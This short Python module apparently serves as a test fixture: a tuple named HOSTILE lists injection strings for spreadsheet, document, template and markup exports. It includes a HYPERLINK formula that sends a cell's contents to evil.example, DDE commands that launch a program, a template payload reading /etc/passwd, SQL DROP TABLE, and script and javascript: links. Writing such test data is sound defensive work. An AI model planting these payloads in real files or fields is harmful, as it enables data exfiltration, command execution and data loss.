"""Texts that would be something else than texts, if a surface let them."""

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "{=1+1}",
    "'=1+1",
    "＝1+1",
    "_x003D_1+1 _x0000_",
    "https://example.org/a?b=c&d",
    "mailto:ana@example.org",
    "internal:'Register'!A1",
    "<w:p>&amp;</w:p><script>alert(1)</script>",
    "{{ 7*7 }} {% for x in y %} $x$ #panic(1) \\input{/etc/passwd}",
    '"; DROP TABLE practices; --\nsecond line, with a "comma"',
    "Zoë Ñandú g̃uaraní İstanbul 東京 👩‍👩‍👧 العربية",
    "a" * 400,
    "[x](javascript:alert(1)) **b** <!channel> @here",
)
